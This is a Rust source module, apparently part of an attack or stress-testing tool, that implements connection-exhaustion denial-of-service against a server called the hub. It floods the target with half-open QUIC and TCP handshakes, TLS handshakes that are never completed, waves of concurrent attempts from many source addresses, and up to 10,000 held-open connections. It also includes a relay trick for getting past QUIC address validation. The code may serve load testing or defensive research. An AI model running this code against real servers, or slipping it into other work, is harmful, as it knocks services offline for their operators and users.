//! Handshakes that never end, and more connections than anybody needs.

use std::collections::VecDeque;

use tokio::io::AsyncWriteExt;
use tokio::net::UdpSocket;
use tokio::task::JoinSet;

use super::quic::{Certificate, NAME, VECTR, endpoint, outsider};
use super::tcp::{socket, tls};
use super::{again, briefly};
use crate::attack::Target;

/// Half-open ones over QUIC and TCP, and whole ones after which the secret is never proven, from many addresses.
pub(super) async fn endless(target: Target) {
    let target = &target;
    tokio::join!(
        again(|| in_waves(target, 150, half_open_quic)),
        again(|| in_waves(target, 300, half_open_tcp)),
        again(|| in_waves(target, 150, unproven_quic)),
        again(|| in_waves(target, 100, unproven_tcp)),
    );
}

/// So many at a time, each on its own; the next wave when all have been given up.
async fn in_waves<F>(target: &Target, count: usize, attempt: fn(Target) -> F) -> Option<()>
where
    F: Future<Output = Option<()>> + Send + 'static,
{
    let mut wave = JoinSet::new();
    for _ in 0..count {
        wave.spawn(attempt(target.clone()));
        target.note();
        tokio::task::yield_now().await;
    }
    wave.join_all().await;
    Some(())
}

/// Lets nothing of the hub through but its question whether the address is the caller's.
async fn half_open_quic(target: Target) -> Option<()> {
    let source = target.source();
    let (front, back) = (UdpSocket::bind((source, 0)).await.ok()?, UdpSocket::bind((source, 0)).await.ok()?);
    back.connect(target.remote).await.ok()?;
    let calling = endpoint(source, Certificate::new().tls(VECTR), quinn::TransportConfig::default())?;
    let connecting = calling.connect(front.local_addr().ok()?, NAME).ok()?;
    let (mut there, mut here, mut caller) = ([0; 2_048], [0; 2_048], None);
    let relay = async {
        loop {
            tokio::select! {
                Ok((length, from)) = front.recv_from(&mut there) => {
                    caller = Some(from);
                    let _ = back.send(&there[..length]).await;
                }
                Ok(length) = back.recv(&mut here) => {
                    let is_retry = here[0] & 0xf0 == 0xf0;
                    if let Some(caller) = caller.filter(|_| is_retry) {
                        let _ = front.send_to(&here[..length], caller).await;
                    }
                }
            }
        }
    };
    briefly(async {
        tokio::select! { () = relay => {}, _ = connecting => {} }
    })
    .await
}

async fn half_open_tcp(target: Target) -> Option<()> {
    let mut socket = socket(target.source(), target.remote).await?;
    socket.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await.ok()?;
    super::tcp::drain(socket).await;
    Some(())
}

async fn unproven_quic(target: Target) -> Option<()> {
    let outsider = outsider(&target).await?;
    briefly(outsider.connection.closed()).await?;
    Some(())
}

async fn unproven_tcp(target: Target) -> Option<()> {
    let stream = tls(&target, &Certificate::new()).await?;
    briefly(super::tcp::drain(stream)).await
}

/// Ten thousand that are open at a time, as far as the hub and this machine allow.
pub(super) async fn many(target: Target) {
    let target = &target;
    tokio::join!(again(|| many_over_tcp(target)), again(|| in_waves(target, 100, unproven_quic)));
}

async fn many_over_tcp(target: &Target) -> Option<()> {
    let (mut open, mut begun) = (VecDeque::new(), JoinSet::new());
    loop {
        while begun.len() < AT_ONCE {
            let (source, remote) = (target.source(), target.remote);
            begun.spawn(async move { socket(source, remote).await });
        }
        match begun.join_next().await?.ok()? {
            Some(socket) => {
                open.push_back(socket);
                target.note();
            }
            // No descriptors are left here, or the hub takes no more: the oldest go.
            None => drop(open.drain(..open.len().min(AT_ONCE))),
        }
        if open.len() > MOST {
            open.pop_front();
        }
    }
}

const MOST: usize = 10_000;
const AT_ONCE: usize = 256;
